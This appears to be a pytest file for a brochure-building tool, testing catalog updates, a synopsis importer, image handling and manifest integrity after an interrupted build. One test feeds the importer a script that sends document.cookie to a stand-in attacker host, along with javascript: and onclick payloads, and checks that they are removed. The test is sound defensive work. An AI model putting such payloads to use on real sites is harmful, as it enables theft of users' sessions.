"""Issue 18 class 6: output that looks right must be right (obsolete entries, imported
synopses, images, the manifest after an interruption)."""

from __future__ import annotations

import hashlib
import json
import struct
import zlib
from pathlib import Path

import polib
import pytest
from conftest import ROOTS, run

from brochures.content.concept import load_concept
from brochures.rendering import workers

SPORT = ROOTS / "synopsis" / "sportkonzept-synopse.txt"


def test_a_removed_text_is_stale_for_check_then_obsolete(basic: Path) -> None:
    assert run(basic, "catalog", "update").exit_code == 0
    catalog = basic / "locales/en/LC_MESSAGES/messages.po"
    po = polib.pofile(str(catalog), wrapwidth=78)
    for entry in po:
        if entry.msgctxt == "jugendliche-foerdern/chancen":
            entry.msgstr = "A qualification improves the chances of training."
    po.save(str(catalog))
    brochure = basic / "source/brochures/jugend.yaml"
    brochure.write_text(
        brochure.read_text(encoding="utf-8").replace(
            "goals: [jugendliche-foerdern]", "goals: [eltern-informieren]"
        ),
        encoding="utf-8",
    )
    before = catalog.read_bytes()
    check = run(basic, "catalog", "update", "--check")
    assert check.exit_code == 1, check.output
    assert "stale locales/en/LC_MESSAGES/messages.po" in check.output
    assert catalog.read_bytes() == before  # --check writes nothing
    assert run(basic, "catalog", "update").exit_code == 0
    text = catalog.read_text(encoding="utf-8")
    assert '#~ msgctxt "jugendliche-foerdern/chancen"' in text
    assert '#~ msgstr "A qualification improves the chances of training."' in text
    assert run(basic, "catalog", "update", "--check").exit_code == 0


def test_the_synopsis_importer_drops_active_content_and_says_so(tmp_path: Path) -> None:
    rows = SPORT.read_text(encoding="utf-8").split("\n")
    rows[3] = rows[3].replace(
        "Bewegung hält gesund.",
        'Bewegung hält gesund.<script>fetch("https://evil.example/"+document.cookie)</script>'
        '<style>body{display:none}</style> <a href="javascript:steal()">Mehr</a>'
        ' <strong onclick="steal()">Sport</strong>',
    )
    synopsis = tmp_path / "synopse.txt"
    synopsis.write_text("\n".join(rows), encoding="utf-8")
    target = tmp_path / "sport" / "konzept.yaml"
    result = run(tmp_path, "import-synopsis", str(synopsis), "-o", str(target), "--issuer", "K")
    assert result.exit_code == 0, result.output
    assert f"{synopsis}:4: dropped <script> element (not concept text)" in result.output
    assert f"{synopsis}:4: dropped <style> element (not concept text)" in result.output
    assert f"{synopsis}:4: dropped script link (not concept text)" in result.output
    assert f"{synopsis}:4: dropped event attribute (not concept text)" in result.output
    written = target.read_text(encoding="utf-8")
    for active in ("evil.example", "cookie", "display:none", "javascript", "steal", "onclick"):
        assert active not in written, active
    concept, _ = load_concept(target, "sport")  # still a valid concept
    first = concept.sections[0].paragraphs[0]
    assert "Mehr" in (first.after or "") and "<strong>Sport</strong>" in (first.after or "")


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims `width`×`height` pixels (the decoder refuses it before any pixel)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0\0\0\0")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("image", ["huge.png", "missing.png", "damaged.png"])
def test_an_image_that_cannot_be_shown_fails_its_job_like_a_missing_one(
    basic: Path, image: str
) -> None:
    assets = basic / "templates/assets"
    assets.mkdir(parents=True)
    (assets / "huge.png").write_bytes(png_header(20000, 20000))
    (assets / "damaged.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    partial = basic / "templates/partials/source.html.j2"
    partial.parent.mkdir(parents=True)
    partial.write_text(f'<p>Quelle</p><img src="assets/{image}" alt="Logo">', encoding="utf-8")
    result = run(basic, "build", "--lang", "de", "--brochure", "eltern", "--jobs", "1")
    assert result.exit_code == 1, result.output
    flat = " ".join(result.output.split())
    assert "failed eltern.de" in flat and image in flat
    assert not (basic / "build/pdf/eltern/eltern.de.pdf").exists()


def test_an_interrupted_build_leaves_no_manifest_entry_for_a_rewritten_pdf(
    basic: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    options = ("build", "--lang", "de", "--lang", "en", "--edition", "single", "--jobs", "1")
    assert run(basic, *options).exit_code == 0
    manifest = basic / "build/manifest.json"
    listed = {e["path"] for e in json.loads(manifest.read_text(encoding="utf-8"))["pdfs"]}
    assert "pdf/eltern/eltern.de.pdf" in listed
    brochure = basic / "source/brochures/eltern.yaml"
    brochure.write_text(
        brochure.read_text(encoding="utf-8").replace("Schule verstehen", "Schule gut verstehen"),
        encoding="utf-8",
    )
    real = workers.write_atomic
    written = []

    def interrupted(path, data, *args):
        real(path, data, *args)
        written.append(path)
        raise KeyboardInterrupt  # Ctrl-C right after the first new PDF is on disk

    monkeypatch.setattr(workers, "write_atomic", interrupted)
    result = run(basic, *options)
    monkeypatch.undo()
    assert result.exit_code != 0 and "Aborted" in result.output, result.output
    assert written
    entries = json.loads(manifest.read_text(encoding="utf-8"))["pdfs"]
    for entry in entries:  # every entry still listed describes the file on disk
        data = (basic / "build" / entry["path"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], entry["path"]
    assert {e["path"] for e in entries} == listed - {
        "pdf/eltern/eltern.de.pdf",
        "pdf/eltern/eltern.en.pdf",
    }
    assert run(basic, *options).exit_code == 0  # the next build makes it whole again
    again = {e["path"] for e in json.loads(manifest.read_text(encoding="utf-8"))["pdfs"]}
    assert again == listed
